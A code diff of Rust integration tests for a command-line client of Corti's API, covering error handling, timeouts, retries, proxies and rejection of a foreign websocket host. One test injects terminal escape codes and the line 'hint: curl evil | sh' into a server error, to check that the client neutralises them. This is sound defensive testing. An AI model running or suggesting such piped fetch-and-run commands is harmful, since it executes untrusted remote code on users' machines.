@@ -13,16 +13,6 @@ use common::{Running, Said, Sandbox, World};
 use predicates::prelude::*;
 use serde_json::json;
 
-fn world(environment: &str) -> World {
-    let mut world = World::new();
-    for (name, value) in
-        [("CORTI_ENVIRONMENT", environment), ("CORTI_CLIENT_ID", "x"), ("CORTI_CLIENT_SECRET", "canary-7")]
-    {
-        world.set(name, value);
-    }
-    world
-}
-
 const TOKEN: &str =
     r#"{"access_token":"abc","expires_in":300,"token_type":"Bearer","scope":"openid transcribe"}"#;
 
@@ -61,7 +51,7 @@ fn answers_of_another_protocol() {
     ];
     for (answer, code, message) in table {
         let server = Rude::start(vec![answer]);
-        let said = Said::by(&mut world(&server.environment).run("token --scope transcribe"));
+        let said = Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe"));
         assert_eq!((said.code, said.stdout.as_str()), (code, ""), "{message}: {}", said.stderr);
         assert!(
             said.stderr.contains(message) && said.stderr.contains("hint: "),
@@ -84,7 +74,8 @@ fn a_lifetime_that_the_token_says_itself_or_that_is_a_fraction() {
         (answer.replace("300,", "null,"), 300),
     ] {
         let server = Rude::start(vec![Answer::json(&body)]);
-        let said = Said::by(&mut world(&server.environment).run("token --scope transcribe --json"));
+        let said =
+            Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe --json"));
         assert_eq!(said.code, 0, "{body}: {}", said.stderr);
         assert_eq!(said.json()["expires_in"], expires_in, "{body}");
     }
@@ -96,7 +87,7 @@ fn a_servers_text_cannot_steer_the_terminal() {
         r#"{"error":"invalid_scope","error_description":"x\u001b[2Jy\r\u0007\u202ez\nhint: curl evil | sh"}"#;
     let server = Rude::start(vec![Answer::http("400 Bad Request", &[], body)]);
     for arguments in ["token --scope transcribe", "token --scope transcribe --json"] {
-        let said = Said::by(&mut world(&server.environment).run(arguments));
+        let said = Said::by(&mut World::client_of(&server.environment).run(arguments));
         assert_eq!(said.code, 6);
         assert!(
             !said.stderr.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
@@ -115,7 +106,8 @@ fn a_servers_text_cannot_steer_the_terminal() {
 fn silence_ends_with_the_time_out() {
     let server = Rude::start(vec![Answer::Silence]);
     let started = Instant::now();
-    let said = Said::by(&mut world(&server.environment).run("token --full --timeout 300ms --json"));
+    let said =
+        Said::by(&mut World::client_of(&server.environment).run("token --full --timeout 300ms --json"));
     assert_eq!((said.code, &said.error()["retryable"]), (8, &true.into()));
     assert!(said.stderr.contains("did not answer within 300ms"), "{}", said.stderr);
     assert!(started.elapsed() < Duration::from_secs(10));
@@ -144,12 +136,12 @@ fn a_connection_that_is_not_taken_is_no_answer_that_is_lost() {
 
 #[test]
 fn nobody_there() {
-    world("http://127.0.0.1:1")
+    World::client_of("http://127.0.0.1:1")
         .run("token --full")
         .assert()
         .code(8)
         .stderr(predicate::str::contains("cannot connect to"));
-    let said = Said::by(&mut world("no-such-label").run("token --full --timeout 20s"));
+    let said = Said::by(&mut World::client_of("no-such-label").run("token --full --timeout 20s"));
     assert_eq!(said.code, 8, "{}", said.stderr);
     assert!(said.stderr.contains("is not an environment that Corti documents"), "{}", said.stderr);
     assert!(said.stderr.contains("auth.no-such-label.corti.app"), "{}", said.stderr);
@@ -159,18 +151,18 @@ fn nobody_there() {
 fn a_busy_server_is_asked_once_more() {
     let busy = |after: &str| Answer::http("429 Too Many Requests", &[&format!("Retry-After: {after}")], "");
     let server = Rude::start(vec![busy("0"), Answer::json(TOKEN)]);
-    world(&server.environment).run("token --scope transcribe").assert().success().stdout("abc\n");
+    World::client_of(&server.environment).run("token --scope transcribe").assert().success().stdout("abc\n");
     assert_eq!(server.requests().len(), 2);
 
     let server = Rude::start(vec![Answer::http("503 Service Unavailable", &[], ""), Answer::json(TOKEN)]);
-    world(&server.environment).run("token --scope transcribe").assert().success();
+    World::client_of(&server.environment).run("token --scope transcribe").assert().success();
 
     let server = Rude::start(vec![busy("0")]);
-    world(&server.environment).run("token --scope transcribe").assert().code(9);
+    World::client_of(&server.environment).run("token --scope transcribe").assert().code(9);
     assert_eq!(server.requests().len(), 2, "once more, and no more");
 
     let server = Rude::start(vec![busy("3600")]);
-    let said = Said::by(&mut world(&server.environment).run("token --scope transcribe"));
+    let said = Said::by(&mut World::client_of(&server.environment).run("token --scope transcribe"));
     assert_eq!((said.code, server.requests().len()), (9, 1), "an hour does not fit the time-out");
     assert!(said.stderr.contains("Retry-After: 3600"), "{}", said.stderr);
 }
@@ -180,7 +172,7 @@ fn a_creating_request_is_never_repeated() {
     let busy = Answer::http("503 Service Unavailable", &["Retry-After: 0"], "");
     let token = TOKEN.replace("openid transcribe", "openid");
     let server = Rude::start(vec![Answer::json(&token), busy]);
-    world(&server.environment).run("interaction create").assert().code(9);
+    World::client_of(&server.environment).run("interaction create").assert().code(9);
     let requests = server.requests();
     assert_eq!(requests.iter().filter(|request| request.starts_with("POST /v2/interactions/")).count(), 1);
 }
@@ -188,7 +180,7 @@ fn a_creating_request_is_never_repeated() {
 #[test]
 fn the_token_request_is_the_vendors() {
     let server = Rude::start(vec![Answer::json(TOKEN)]);
-    world(&server.environment).run("token --scope transcribe").assert().success();
+    World::client_of(&server.environment).run("token --scope transcribe").assert().success();
     let request = server.requests().remove(0);
     let (head, body) = request.split_once("\r\n\r\n").unwrap();
     assert_eq!(
@@ -206,7 +198,7 @@ fn a_websocket_url_of_another_host_is_not_used() {
     let token = TOKEN.replace("openid transcribe", "openid");
     let body = r#"{"interactionId":"i","websocketUrl":"wss://evil.example/streams"}"#;
     let server = Rude::start(vec![Answer::json(&token), Answer::json(body)]);
-    let said = Said::by(&mut world(&server.environment).run("interaction create"));
+    let said = Said::by(&mut World::client_of(&server.environment).run("interaction create"));
     assert_eq!((said.code, said.stdout.as_str()), (8, ""));
     assert!(said.stderr.contains("evil.example"), "{}", said.stderr);
 }
@@ -214,8 +206,7 @@ fn a_websocket_url_of_another_host_is_not_used() {
 #[test]
 fn this_machine_is_never_reached_through_a_proxy() {
     let (sandbox, proxy) = (Sandbox::start(), Rude::start(vec![Answer::http("502 Bad Gateway", &[], "")]));
-    let mut world = World::new();
-    world.use_client(&sandbox);
+    let mut world = World::of(&sandbox);
     for name in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"] {
         world.set(name, &proxy.environment);
     }
@@ -226,7 +217,7 @@ fn this_machine_is_never_reached_through_a_proxy() {
 #[test]
 fn another_host_is_reached_through_the_proxy() {
     let proxy = Rude::start(vec![Answer::http("502 Bad Gateway", &[], "")]);
-    let mut world = world("eu");
+    let mut world = World::client_of("eu");
     world.set("HTTPS_PROXY", &proxy.environment);
     let said = Said::by(&mut world.run("token --full"));
     let blamed = format!(
@@ -242,7 +233,7 @@ fn another_host_is_reached_through_the_proxy() {
 #[test]
 fn a_proxy_that_is_not_there_is_the_one_that_is_named() {
     for (proxy, reason) in [("nohost.invalid:3128", "it is not found in DNS"), ("127.0.0.1:1", "")] {
-        let mut world = world("https://192.0.2.1");
+        let mut world = World::client_of("https://192.0.2.1");
         world.set("HTTPS_PROXY", &format!("http://user:canary-8@{proxy}"));
         let said = Said::by(&mut world.run("token --full"));
         assert_eq!(said.code, 8, "{}", said.stderr);
@@ -260,7 +251,7 @@ fn a_proxy_that_is_not_there_is_the_one_that_is_named() {
 fn a_ready_token_that_is_refused_is_the_one_that_is_named() {
     let refusal = Answer::http("401 Unauthorized", &["WWW-Authenticate: Bearer error=\"invalid_token\""], "");
     let server = Rude::start(vec![refusal]);
-    let mut world = world(&server.environment);
+    let mut world = World::client_of(&server.environment);
     let minted = Said::by(&mut world.run("interaction create"));
     assert!(!minted.stderr.contains("CORTI_ACCESS_TOKEN"), "{}", minted.stderr);
     world.set("CORTI_ACCESS_TOKEN", "not-a-good-one");
@@ -283,7 +274,7 @@ fn a_servers_text_is_repeated_up_to_a_length() {
                 Answer::http(status, &[], first),
                 Answer::http("400 Bad Request", &[], second),
             ]);
-            let said = Said::by(&mut world(&server.environment).run(arguments));
+            let said = Said::by(&mut World::client_of(&server.environment).run(arguments));
             assert_eq!(said.code, 1, "{}", said.stderr);
             assert!(said.stderr.contains("xxx…") && said.stderr.len() < 4000, "{}", said.stderr.len());
         }
@@ -295,7 +286,7 @@ fn a_refusal_has_the_status_that_it_came_with() {
     let body = r#"{"error":"unauthorized_client","error_description":"Client not enabled"}"#;
     for (line, status) in [("400 Bad Request", 400), ("401 Unauthorized", 401)] {
         let server = Rude::start(vec![Answer::http(line, &[], body)]);
-        let said = Said::by(&mut world(&server.environment).run("token --full --json"));
+        let said = Said::by(&mut World::client_of(&server.environment).run("token --full --json"));
         assert_eq!((said.code, &said.error()["http_status"]), (5, &status.into()), "{}", said.stderr);
     }
 }
